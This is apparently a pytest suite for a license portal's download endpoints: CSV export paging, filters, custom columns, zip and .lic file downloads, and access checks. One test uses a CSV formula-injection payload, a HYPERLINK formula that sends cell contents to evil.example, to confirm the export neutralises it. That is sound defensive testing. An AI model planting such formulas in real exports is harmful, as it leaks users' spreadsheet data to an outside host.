"""Downloads: the CSV export of a filter (every row, across keyset pages, custom fields as
columns), a zip of license files, one license file; foreign and unknown ids are 404."""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from datetime import UTC, datetime, timedelta

import httpx
import pytest

from backend.db.models import LicenseState, SharePermission
from backend.domain.licenses import exports
from backend.domain.licenses.finding import today
from backend.portal import Portal
from tests.api.flows import ALICE, BOB, account_id, sign_in
from tests.api.licenses_world import create_field, gid, make_license, plain, set_values, share, user_id
from tests.support import GraphQLClient


@pytest.fixture(autouse=True)
def small_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pages of 2 rows, so a handful of licenses crosses several pages."""
    monkeypatch.setattr(exports, "EXPORT_PAGE", 2)


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_csv_export_has_every_row_of_the_filter_with_custom_columns(
    client: GraphQLClient, portal: Portal
) -> None:
    account = account_id(await sign_in(client))
    alice = await user_id(portal, ALICE)
    made = [
        await make_license(portal, plain(account, "Account"), "EPS-14", owner_id=alice, quantity=10 + i)
        for i in range(5)
    ]
    lapsed = await make_license(
        portal, plain(account, "Account"), "DLP-16", maintenance_until=today() - timedelta(days=3)
    )
    await make_license(portal, plain(account, "Account"), "EPS-14", state=LicenseState.REVOKED)
    budget = await create_field(client, account, "Budget", "NUMBER")
    note = await create_field(client, account, "Note, with comma", "TEXT")
    await set_values(
        client,
        [made[0].global_id, made[3].global_id],
        [{"fieldId": budget["id"], "value": "12.50"}, {"fieldId": note["id"], "value": 'say "hi", twice'}],
    )
    http = client.http
    rows = read_csv(await http.get("/api/licenses/export.csv", params={"accountId": account}))
    assert len(rows) == 7  # every license, though a page holds 2
    assert list(rows[0]) == [*exports.COLUMNS, "Budget", "Note, with comma"]
    by_id = {r["License ID"]: r for r in rows}
    first = by_id[str(made[0].license_id)]
    assert first["Product SKU"] == "EPS-14" and first["Product"] == "Endpoint Protection"
    assert first["Status"] == "ACTIVE" and first["Quantity"] == "10"
    assert first["Budget"] == "12.5" and first["Note, with comma"] == 'say "hi", twice'
    assert first["Owner"] == ALICE
    assert first["Activation keys"] == made[0].activation_key
    assert first["Serial numbers"].replace("-", "") == made[0].serial_number
    assert by_id[str(made[1].license_id)]["Budget"] == ""
    assert by_id[str(lapsed.license_id)]["Status"] == "EXPIRED"
    # The filter and the order are those of the list.
    filtered = read_csv(
        await http.get(
            "/api/licenses/export.csv",
            params={
                "accountId": account,
                "filter": json.dumps({"productSku": "EPS-14", "status": ["ACTIVE"]}),
                "orderBy": json.dumps({"field": "QUANTITY", "direction": "DESC"}),
            },
        )
    )
    assert [r["License ID"] for r in filtered] == [str(m.license_id) for m in reversed(made)]
    by_value = read_csv(
        await http.get(
            "/api/licenses/export.csv",
            params={
                "accountId": account,
                "filter": json.dumps({"customFields": [{"fieldId": budget["id"], "value": "12.5"}]}),
            },
        )
    )
    assert {r["License ID"] for r in by_value} == {str(made[0].license_id), str(made[3].license_id)}
    bad = await http.get("/api/licenses/export.csv", params={"accountId": account, "filter": "{not json"})
    assert bad.status_code == 400


async def test_csv_export_pages_through_equal_sort_values(client: GraphQLClient, portal: Portal) -> None:
    account = account_id(await sign_in(client))
    same = datetime.now(UTC).replace(microsecond=0)
    made = {
        str((await make_license(portal, plain(account, "Account"), created_at=same, quantity=5)).license_id)
        for _ in range(7)
    }
    for order in (None, {"field": "QUANTITY", "direction": "DESC"}, {"field": "STATUS"}):
        params = {"accountId": account} | ({"orderBy": json.dumps(order)} if order else {})
        rows = read_csv(await client.http.get("/api/licenses/export.csv", params=params))
        assert [r["License ID"] for r in rows if r["License ID"] in made] == sorted(
            made, reverse=order is None or order.get("direction") == "DESC"
        )
        assert len(rows) == 7


async def test_csv_export_of_a_foreign_or_unknown_account_is_404(
    client: GraphQLClient, other_client: GraphQLClient, portal: Portal
) -> None:
    account = account_id(await sign_in(client))
    await make_license(portal, plain(account, "Account"))
    await sign_in(other_client, BOB)
    for target in (account, gid("Account", uuid.uuid4()), "nonsense"):
        response = await other_client.http.get("/api/licenses/export.csv", params={"accountId": target})
        assert response.status_code == 404
        assert account not in response.text
    async with httpx.AsyncClient(transport=client.http._transport, base_url="http://127.0.0.1") as anonymous:
        assert (
            await anonymous.get("/api/licenses/export.csv", params={"accountId": account})
        ).status_code == 404


async def test_zip_and_single_license_files(
    client: GraphQLClient, other_client: GraphQLClient, portal: Portal
) -> None:
    account = account_id(await sign_in(client))
    made = [await make_license(portal, plain(account, "Account")) for _ in range(3)]
    response = await client.http.get(
        "/api/licenses/files.zip",
        params={"accountId": account, "ids": ",".join(m.global_id for m in made[:2])},
    )
    assert response.status_code == 200 and response.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert sorted(archive.namelist()) == sorted(f"{m.activation_key}.lic" for m in made[:2])
        assert archive.read(f"{made[0].activation_key}.lic").decode().strip() == made[0].license_file
    one = await client.http.get(f"/api/licenses/{made[2].global_id}/license.lic")
    assert one.status_code == 200
    assert one.text.strip() == made[2].license_file
    assert f"{made[2].activation_key}.lic" in one.headers["content-disposition"]
    # Bob: Alice's licenses are unknown to him, alone or inside a selection…
    bob = await sign_in(other_client, BOB)
    his = await make_license(portal, plain(account_id(bob), "Account"))
    assert (await other_client.http.get(f"/api/licenses/{made[0].global_id}/license.lic")).status_code == 404
    mixed = await other_client.http.get(
        "/api/licenses/files.zip", params={"ids": f"{his.global_id},{made[0].global_id}"}
    )
    assert mixed.status_code == 404
    # …until one is shared with him: then the single file and a zip without accountId work.
    await share(portal, made[1].license_id, BOB, SharePermission.VIEW)
    shared = await other_client.http.get(f"/api/licenses/{made[1].global_id}/license.lic")
    assert shared.status_code == 200 and shared.text.strip() == made[1].license_file
    both = await other_client.http.get(
        "/api/licenses/files.zip", params={"ids": f"{his.global_id},{made[1].global_id}"}
    )
    assert both.status_code == 200
    with zipfile.ZipFile(io.BytesIO(both.content)) as archive:
        assert sorted(archive.namelist()) == sorted(
            [f"{his.activation_key}.lic", f"{made[1].activation_key}.lic"]
        )
    # A selection outside the named account is refused; unknown ids too.
    outside = await client.http.get(
        "/api/licenses/files.zip", params={"accountId": account, "ids": his.global_id}
    )
    assert outside.status_code == 404
    unknown = await client.http.get(f"/api/licenses/{gid('License', uuid.uuid4())}/license.lic")
    assert unknown.status_code == 404


async def test_csv_export_quotes_cells_a_spreadsheet_would_run(client: GraphQLClient, portal: Portal) -> None:
    # given a custom value and a custom field name that start like formulas
    account = account_id(await sign_in(client))
    made = await make_license(portal, plain(account, "Account"), "EPS-14")
    note = await create_field(client, account, "@Note", "TEXT")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    await set_values(client, [made.global_id], [{"fieldId": note["id"], "value": formula}])
    # when the list is exported
    rows = read_csv(await client.http.get("/api/licenses/export.csv", params={"accountId": account}))
    # then both open as text, quoted once
    assert list(rows[0])[-1] == "'@Note"
    assert rows[0]["'@Note"] == "'" + formula
    assert rows[0]["Product SKU"] == "EPS-14"
